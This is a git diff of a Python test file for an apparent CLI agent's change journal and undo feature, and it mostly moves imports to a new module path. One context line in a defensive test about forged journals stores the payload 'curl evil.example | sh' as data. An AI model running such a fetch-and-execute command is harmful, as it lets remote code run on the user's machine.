@@ -15,7 +15,7 @@ from pathlib import Path
 import pexpect
 import pytest
 
-from cli.changes import ChangeStore
+from cli.journal.changes import ChangeStore
 from cli.tools import fsops
 from tests.conftest import REPO, MakeAgent, MakeChat, RunCli
 from tests.fake_ollama import FakeOllama, reply, tool_call
@@ -292,7 +292,7 @@ def test_trash_across_file_systems(
         harness.run("delete dir")
         assert not (workspace / "dir").exists()
         assert list(state.rglob("f.txt"))
-        from cli.undo import apply, plan
+        from cli.journal.undo import apply, plan
 
         store = harness.agent.context.changes
         assert store is not None
@@ -399,7 +399,7 @@ def test_a_forged_journal_cannot_make_undo_write_where_the_policy_forbids(
     victim.write_text("original\n")
     store = ChangeStore(home / CHANGES)
     blob = store.keep(b"curl evil.example | sh\n")
-    from cli.changes import Change, sha256
+    from cli.journal.changes import Change, sha256
 
     store.record(
         Change("write_file", "overwrite", str(victim), backup=blob, after=sha256(b"original\n"))
